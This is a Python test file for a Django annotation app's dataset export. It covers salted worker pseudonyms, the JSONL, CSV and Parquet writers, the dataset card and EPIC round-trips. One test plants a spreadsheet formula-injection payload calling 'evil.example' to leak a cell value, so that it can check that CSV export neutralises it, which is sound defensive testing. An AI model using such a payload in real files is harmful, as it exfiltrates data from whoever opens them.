"""Dataset export: worker pseudonyms, the JSONL, CSV and Parquet writers, the dataset card."""

import csv
import hashlib
import hmac
import io
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from django.test import override_settings

from annotation.analysis.cards import analysis_sections, format_value, markdown_table
from annotation.datasets.epic import dataset_import_epic
from annotation.exports.dataset import (
    WorkerPseudonyms,
    columns,
    dataset_export,
    export_salt,
    parquet_schema,
    write_csv,
    write_jsonl,
    write_parquet,
)
from annotation.models import ImportedFile
from tests.factories import alignment_create, crowd_narrative_create, proverb_create

PROVERB = "Time is money"
STORY = "Raj lost customers every minute."


def _row(**fields) -> dict:
    row = {
        "id": 7,
        "pk": "Q1N1",
        "proverb_id": 1,
        "proverb": PROVERB,
        "proverb_quote": None,
        "narrative": STORY,
        "source": "crowd",
        "source_label": "",
        "status": "approved",
        "worker": "3f2a",
        "pledged_at": None,
        "split_seen": "train",
        "split_unseen": None,
        "round": 2,
        "opponent_run": 5,
        "model_rank": 3,
        "model_fooled": True,
        "human_validated": None,
        "model_checks": 2,
        "keywords": ["lose"],
        "span_pairs": [
            {
                "alignment": 1,
                "position": 1,
                "proverb_start": 8,
                "proverb_end": 13,
                "proverb_span": "money",
                "narrative_start": 4,
                "narrative_end": 18,
                "narrative_span": "lost customers",
                "ambiguous": False,
                "annotator": None,
            }
        ],
        "ratings": [{"criterion": "overall", "mean": 3.5, "n": 2}],
        "integrity_flags": ["pasted"],
        "writing": {
            "typed_share": 0.1,
            "pasted_share": 0.9,
            "without_keys_share": 0.0,
            "synthetic_events": 0,
            "deleted": 3,
            "pauses": 1,
            "mean_key_interval_ms": 180.0,
            "composition_seconds": 40,
            "hidden_seconds": 0,
        },
    }
    return {**row, **fields}


def test_pseudonym_is_16_hex_digits_of_hmac_sha256():
    pseudonym = WorkerPseudonyms(b"salt")
    expected = hmac.new(b"salt", b"mturk:A1B2", hashlib.sha256).hexdigest()[:16]
    assert pseudonym("mturk:A1B2") == expected
    assert pseudonym(None) is None


def test_pseudonyms_differ_with_the_salt():
    assert WorkerPseudonyms(b"one")("local:w1") != WorkerPseudonyms(b"two")("local:w1")


@override_settings(PARABLE_EXPORT_SALT="pepper")
def test_export_salt_comes_from_the_setting():
    assert export_salt() == b"pepper"


@override_settings(SECRET_KEY="k" * 50)
def test_export_salt_without_the_setting_derives_from_the_secret_key():
    assert export_salt() == hmac.new(b"k" * 50, b"parable-export-salt", "sha256").digest()
    assert b"k" * 50 not in export_salt()


def test_jsonl_writes_one_object_a_line():
    stream = io.StringIO()
    assert write_jsonl(iter([[_row()], [_row(id=8)]]), stream) == 2
    lines = stream.getvalue().splitlines()
    assert [json.loads(line)["id"] for line in lines] == [7, 8]
    assert json.loads(lines[0]) == _row()


def test_csv_has_a_header_and_nested_fields_as_json():
    stream = io.StringIO()
    write_csv(iter([[_row(narrative='He said "no",\nthen left.')]]), stream)
    header, row = list(csv.reader(io.StringIO(stream.getvalue())))
    assert header == list(columns())
    record = dict(zip(header, row, strict=True))
    assert record["narrative"] == 'He said "no",\nthen left.'
    assert record["split_unseen"] == ""
    assert (record["round"], record["model_fooled"], record["human_validated"]) == ("2", "True", "")
    assert json.loads(record["span_pairs"])[0]["narrative_span"] == "lost customers"
    assert json.loads(record["ratings"]) == [{"criterion": "overall", "mean": 3.5, "n": 2}]
    assert json.loads(record["integrity_flags"]) == ["pasted"]
    assert json.loads(record["writing"])["pasted_share"] == 0.9


def test_parquet_has_the_fixed_schema_and_a_row_group_per_chunk(tmp_path):
    path = tmp_path / "data.parquet"
    assert write_parquet(iter([[_row()], [_row(id=8, span_pairs=[], ratings=[])]]), path) == 2
    parquet = pq.ParquetFile(path)
    assert parquet.schema_arrow == parquet_schema()
    assert parquet.num_row_groups == 2
    table = parquet.read().to_pylist()
    assert table[0]["span_pairs"][0]["narrative_span"] == "lost customers"
    assert table[1]["span_pairs"] == []
    assert table[0]["integrity_flags"] == ["pasted"]
    assert table[0]["writing"]["mean_key_interval_ms"] == 180.0


def test_parquet_of_nothing_has_the_schema_and_no_rows(tmp_path):
    path = tmp_path / "data.parquet"
    assert write_parquet(iter([]), path) == 0
    assert pq.read_table(path).schema == parquet_schema()


def test_format_value_shows_none_integers_and_four_significant_digits():
    assert [format_value(v) for v in (None, 3, 0.123456, 66.5123, 1234.5, True)] == [
        "—",
        "3",
        "0.1235",
        "66.51",
        "1234.50",
        "yes",
    ]


def test_markdown_table_escapes_html_pipes_and_newlines():
    table = markdown_table(["Proverb"], [["<script>a|b</script>\nend"]])
    assert table.splitlines()[2] == "| &lt;script>a\\|b&lt;/script> end |"


def test_every_section_lists_definitions_for_its_statistics():
    sections = analysis_sections({"collection": {"submitted": 3}})
    collection = sections[0]
    assert collection.title == "Collection"
    first_row = collection.tables[0].rows[0]
    assert first_row[:2] == ["Narratives submitted or imported", "3"]
    assert first_row[2].startswith("Number of narratives ever submitted")


@pytest.mark.django_db
@override_settings(PARABLE_EXPORT_SALT="pepper")
def test_export_hashes_worker_ids_unless_kept(tmp_path):
    narrative = crowd_narrative_create(proverb=proverb_create(PROVERB), text=STORY)
    dataset_export(format="jsonl", directory=tmp_path / "hashed", statistics=False)
    dataset_export(
        format="jsonl", directory=tmp_path / "raw", statistics=False, raw_worker_ids=True
    )
    hashed = json.loads((tmp_path / "hashed" / "dataset.jsonl").read_text())
    raw = json.loads((tmp_path / "raw" / "dataset.jsonl").read_text())
    key = f"local:{narrative.worker.external_id}"
    assert hashed["worker"] == WorkerPseudonyms(b"pepper")(key)
    assert raw["worker"] == key


@pytest.mark.django_db
def test_export_hashes_annotators_of_span_pairs(tmp_path):
    narrative = crowd_narrative_create(proverb=proverb_create(PROVERB), text=STORY)
    alignment_create(narrative=narrative, pairs=[(8, 13, 4, 18)])
    dataset_export(format="jsonl", directory=tmp_path, statistics=False)
    [pair] = json.loads((tmp_path / "dataset.jsonl").read_text())["span_pairs"]
    assert len(pair["annotator"]) == 16 and ":" not in pair["annotator"]


@pytest.mark.django_db
def test_export_writes_the_card_beside_the_data_and_no_partial_file(tmp_path):
    crowd_narrative_create(proverb=proverb_create(PROVERB), text=STORY, split_seen="train")
    result = dataset_export(format="csv", directory=tmp_path, statistics=False)
    assert sorted(path.name for path in tmp_path.iterdir()) == ["README.md", "dataset.csv"]
    assert result.rows == 1
    card = (tmp_path / "README.md").read_text()
    assert "data_files: dataset.csv" in card
    assert "| split seen train | 1 |" in card
    assert "Worker ids are salted hashes" in card


@pytest.mark.django_db
def test_export_card_takes_statistics_from_a_given_analysis(tmp_path):
    crowd_narrative_create(proverb=proverb_create(PROVERB), text=STORY)
    analysis = {"narratives": 2500, "collection": {"distinct_workers": 166}}
    dataset_export(format="parquet", directory=tmp_path, analysis=analysis)
    card = (tmp_path / "README.md").read_text()
    assert "| Narratives (approved) | 2500 | Number of approved narratives" in card
    assert "| Distinct workers | 166 |" in card
    methods = (tmp_path / "methods.md").read_text()
    assert "| Distinct workers | 166 |" in methods and methods in card
    assert "\\subsection*{Integrity controls}" in (tmp_path / "methods.tex").read_text()


@pytest.mark.django_db
def test_export_refuses_an_unknown_format(tmp_path):
    with pytest.raises(ValueError, match="Unknown format 'xml'"):
        dataset_export(format="xml", directory=tmp_path / "out", statistics=False)
    assert not (tmp_path / "out").exists()


@pytest.mark.django_db
def test_epic_export_writes_split_files_and_drops_stale_ones(tmp_path):
    proverb = proverb_create(PROVERB)
    crowd_narrative_create(proverb=proverb, text=STORY, split_seen="train")
    (tmp_path / "epic_unseen_test_pks.json").write_text('["old"]')
    result = dataset_export(format="epic", directory=tmp_path, statistics=False)
    assert [path.name for path in result.files] == ["epic.json", "epic_seen_train_pks.json"]
    assert json.loads((tmp_path / "epic_seen_train_pks.json").read_text()) == [f"Q{proverb.pk}N1"]
    assert not (tmp_path / "epic_unseen_test_pks.json").exists()


@pytest.mark.django_db
def test_csv_export_neutralises_formulas_while_jsonl_keeps_the_text(tmp_path):
    story = '=HYPERLINK("http://evil.example/?leak="&A1,"click") Raj lost customers.'
    proverb = "@SUM(1,2) is money"
    crowd_narrative_create(proverb=proverb_create(proverb), text=story)
    dataset_export(format="csv", directory=tmp_path / "csv", statistics=False)
    dataset_export(format="jsonl", directory=tmp_path / "jsonl", statistics=False)
    with (tmp_path / "csv" / "dataset.csv").open(newline="") as stream:
        [row] = list(csv.DictReader(stream))
    assert row["narrative"] == "'" + story
    assert row["proverb"] == "'" + proverb
    exact = json.loads((tmp_path / "jsonl" / "dataset.jsonl").read_text())
    assert (exact["narrative"], exact["proverb"]) == (story, proverb)
    assert "added single quote" in (tmp_path / "csv" / "README.md").read_text()
    assert "added single quote" not in (tmp_path / "jsonl" / "README.md").read_text()


RELEASE = Path(__file__).resolve().parents[2] / "fixtures" / "epic_release"


def _release_splits() -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in RELEASE.glob("*_pks.json")}


@pytest.mark.django_db
def test_an_imported_epic_release_exports_byte_for_byte(tmp_path):
    """The release's layout (4-space indent, ASCII escapes such as caf\\u00e9, no final
    newline) and its split files' come back, with irregular records: a quote that differs
    from its proverb's, a span with spaces around it, a repeated text, a record without
    spans, a newline and a tab inside a narrative."""
    dataset_import_epic(
        content=(RELEASE / "epic.json").read_bytes(),
        splits=_release_splits(),
        filename="epic.json",
    )
    result = dataset_export(format="epic", directory=tmp_path, statistics=False)
    assert result.rows == 8
    assert (tmp_path / "epic.json").read_bytes() == (RELEASE / "epic.json").read_bytes()
    for name, content in _release_splits().items():
        assert (tmp_path / name).read_bytes() == content, name


@pytest.mark.django_db
def test_the_card_says_the_workers_of_an_imported_release_are_unknown(tmp_path):
    dataset_import_epic(content=(RELEASE / "epic.json").read_bytes())
    dataset_export(format="jsonl", directory=tmp_path / "release", statistics=False)
    card = (tmp_path / "release" / "README.md").read_text()
    assert "| distinct workers | unknown for 8 row(s) that name no worker |" in card
    crowd_narrative_create(proverb=proverb_create(PROVERB), text=STORY)
    dataset_export(format="jsonl", directory=tmp_path / "both", statistics=False)
    card = (tmp_path / "both" / "README.md").read_text()
    assert "| distinct workers | 1, and unknown for 8 row(s) that name no worker |" in card


@pytest.mark.django_db
def test_an_epic_file_in_no_json_dumps_layout_exports_its_values(tmp_path):
    text = (RELEASE / "epic.json").read_text(encoding="utf-8")
    hand_edited = text.replace('"pk": "Q1N2",', '"pk":   "Q1N2",', 1)
    dataset_import_epic(content=hand_edited.encode(), filename="edited.json")
    dataset_export(format="epic", directory=tmp_path, statistics=False)
    exported = (tmp_path / "epic.json").read_text(encoding="utf-8")
    assert exported != hand_edited  # one record a line: the bytes are not kept
    assert json.loads(exported) == json.loads(hand_edited)  # the values are
    assert ImportedFile.objects.get(key="epic:ePiC").layout is None


@pytest.mark.django_db
def test_crowd_narratives_beside_an_import_are_exported_one_record_a_line(tmp_path):
    dataset_import_epic(content=(RELEASE / "epic.json").read_bytes())
    crowd_narrative_create(proverb=proverb_create(PROVERB), text=STORY)
    dataset_export(format="epic", directory=tmp_path, statistics=False)
    exported = (tmp_path / "epic.json").read_text(encoding="utf-8")
    assert exported.startswith('[\n{"pk": "Q1N1", "fields": {')
    assert len(json.loads(exported)) == 9
